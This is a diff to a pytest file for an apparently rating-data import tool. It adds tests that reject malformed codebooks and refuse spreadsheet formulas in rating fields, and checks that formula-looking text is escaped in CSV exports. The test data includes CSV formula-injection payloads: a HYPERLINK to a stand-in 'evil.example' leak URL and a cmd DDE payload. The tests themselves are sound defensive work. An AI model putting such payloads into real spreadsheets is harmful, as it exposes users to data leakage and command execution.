@@ -75,6 +75,24 @@ CASES: dict[str, tuple[int | None, str | None, str]] = {
     "prometheus_bad_score.json": (12, "gpt4_score[1]", "rating 7 is outside"),
     "wmt_bad_score.tsv": (3, "score", "'n/a' is not a number"),
     "hanna_wrong_header.csv": (1, "story_id", "not a HANNA file"),
+    # spreadsheet formulas where a rating belongs (CSV formula injection): refused as not a number
+    "formula_rating.csv": (3, "rater2", "=HYPERLINK(\"http://evil.example/?leak...' is not a number"),
+    "formula_cmd.csv": (2, "rater1", "'=cmd|' /C calc'!A0' is not a number"),
+    "formula_rating.jsonl": (2, "rater1", "'=1+1' is not a number"),
+    "label_formula.csv": (2, "label", "'@SUM(1+1)' is not a number"),
+    # a blank line in the middle is skipped, and the rows after it keep their true numbers
+    "blank_line_then_bad.csv": (5, "rater2", "rating 9 is outside the scale 1-5"),
+}
+
+# codebook files for `judgeeye codebook import`: file -> (field named, words); "" = the whole file
+CODEBOOK_CASES: dict[str, tuple[str, str]] = {
+    "codebook_no_levels.json": ("rubric", "this one has no rating levels"),
+    "codebook_missing_rubric.json": ("rubric", "Field required"),
+    "codebook_level_off_scale.json": ("rubric", "rubric level(s) 7 outside the scale 1..5"),
+    "codebook_malformed.json": ("", "not valid JSON (line 7, column 18)"),
+    "codebook_array.json": ("", "expected a JSON object at the top level"),
+    # a valid codebook whose scale is not the project's: refused by the import itself
+    "codebook_other_scale.json": ("scale_min'/'scale_max", "codebook scale 0-10 differs from the project's 1-5"),
 }
 
 
@@ -93,8 +111,8 @@ def _load(path: Path, **kwargs: Any):  # type: ignore[no-untyped-def]
 
 def test_corpus_is_complete() -> None:
     files = {p.name for p in BAD.iterdir() if p.name != "README.md"}
-    assert files == set(CASES)
-    assert len(files) >= 20
+    assert files == set(CASES) | set(CODEBOOK_CASES)
+    assert len(files) >= 30
 
 
 @pytest.mark.parametrize("name", sorted(CASES))
@@ -198,3 +216,104 @@ def test_failed_imports_leave_the_database_unchanged(
     with pytest.raises(IntegrityError), session_scope(store_url) as s:
         import_dataset(s, ds, project_name="half-written")
     assert _counts(store_url) == before
+
+
+# --------------------------------------------------------------------------- codebook files
+
+
+@pytest.mark.parametrize("name", sorted(CODEBOOK_CASES))
+def test_bad_codebook_file_is_refused_naming_file_and_field(name: str, store_url: str) -> None:
+    """`judgeeye codebook import` refuses it with the file and the field named; no version is added."""
+    from typer.testing import CliRunner
+
+    from judgeeye.cli import app
+    from judgeeye.codebook import load_codebook_file
+    from judgeeye.projects import ensure_sample_project
+    from judgeeye.store import Codebook, session_scope
+
+    field, words = CODEBOOK_CASES[name]
+    if name != "codebook_other_scale.json":
+        with pytest.raises(ValueError) as exc:
+            load_codebook_file(BAD / name)
+        assert name in str(exc.value) and words in str(exc.value)
+        if field:
+            assert f"field '{field}'" in str(exc.value)
+    project_id = ensure_sample_project()
+    with session_scope() as s:
+        before = s.scalar(select(func.count(Codebook.id)))
+    result = CliRunner().invoke(app, ["codebook", "import", "--project", str(project_id), str(BAD / name)])
+    assert result.exit_code == 2, result.output
+    assert name in result.output and words in result.output
+    if field:
+        assert f"field '{field}'" in result.output
+    with session_scope() as s:
+        assert s.scalar(select(func.count(Codebook.id))) == before
+
+
+# --------------------------------------------------------------------------- formulas in text
+
+
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example","click")', "@SUM(1+1)", "+1+1 plus", "-2 minus",
+                 "=cmd|' /C calc'!A0", "\t=1+1 after a tab"]
+
+
+def test_formula_looking_text_is_content_imported_as_is_and_escaped_in_csv_exports(
+        store_url: str, tmp_path: Path) -> None:
+    """A text field that looks like a formula is legitimate content: imported verbatim; every
+    CSV export then shows it as text (a leading apostrophe), never as a formula."""
+    import csv as csv_mod
+
+    from judgeeye.auth import Actor
+    from judgeeye.engines import EngineConfig
+    from judgeeye.projects import import_with_codebook
+    from judgeeye.review import export_reasoning
+    from judgeeye.sampling import SamplingSettings
+    from judgeeye.sampling.runs import create_run
+    from judgeeye.spreadsheet import FORMULA_START
+    from judgeeye.store import Candidate, Item, session_scope
+
+    path = tmp_path / "formulas.csv"
+    with path.open("w", newline="", encoding="utf-8") as fh:
+        writer = csv_mod.writer(fh)
+        writer.writerow(["id", "text", "rater1", "rater2"])
+        for i, text in enumerate(FORMULA_TEXTS):
+            writer.writerow([f"=id{i}" if i == 0 else f"id{i}", text, 3, 3])
+    with session_scope() as s:
+        project_id = import_with_codebook(s, read_table(path, PER_ANNOTATOR), actor=Actor.system(),
+                                          project_name="formulas").project_id
+    with session_scope() as s:
+        items = s.scalars(select(Item).where(Item.project_id == project_id).order_by(Item.id)).all()
+        assert [i.fields["text"] for i in items] == FORMULA_TEXTS  # stored exactly as written
+        run = create_run(s, project_id, EngineConfig(), SamplingSettings(k=1))
+        for item in items:
+            s.add(Candidate(run_id=run.id, item_id=item.id, target="gold", target_label=item.gold, sample_index=0,
+                            reasoning="", answer=f"=SUM(A1:A9) and more\n\n<rating>3</rating>", predicted=3.0,
+                            parse_ok=True, accepted=True, completion_tokens=5, finish_reason="stop"))
+    out = tmp_path / "export"
+    with session_scope() as s:
+        summary = export_reasoning(s, Actor.system(), project_id, out, ["csv", "jsonl"])
+    with open(summary.files["csv"], newline="", encoding="utf-8") as fh:
+        rows = list(csv_mod.reader(fh))
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell a spreadsheet would run"
+    texts = [row[rows[0].index("field:text")] for row in rows[1:]]
+    assert texts == ["'" + t for t in FORMULA_TEXTS]  # shown as text, nothing lost
+    assert rows[1][1] == "'=id0"
+    # JSONL is data, not a spreadsheet: the texts stay as they are
+    lines = [json.loads(x) for x in Path(summary.files["jsonl"]).read_text().splitlines()]
+    assert [x["fields"]["text"] for x in lines] == FORMULA_TEXTS
+
+
+@pytest.mark.parametrize("cell, escaped", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("\uff1d1+1", "'\uff1d1+1"), ("plain", "plain"), ("", ""), (" =1", " =1"), (-1, -1), (2.5, 2.5), (None, None),
+])
+def test_spreadsheet_safe(cell: object, escaped: object) -> None:
+    from judgeeye.spreadsheet import csv_text, spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == escaped
+    import csv as csv_mod
+    import io
+
+    rows = list(csv_mod.reader(io.StringIO(csv_text(["h"], [[cell]]), newline="")))
+    assert rows == [["h"], ["" if escaped is None else str(escaped)]]
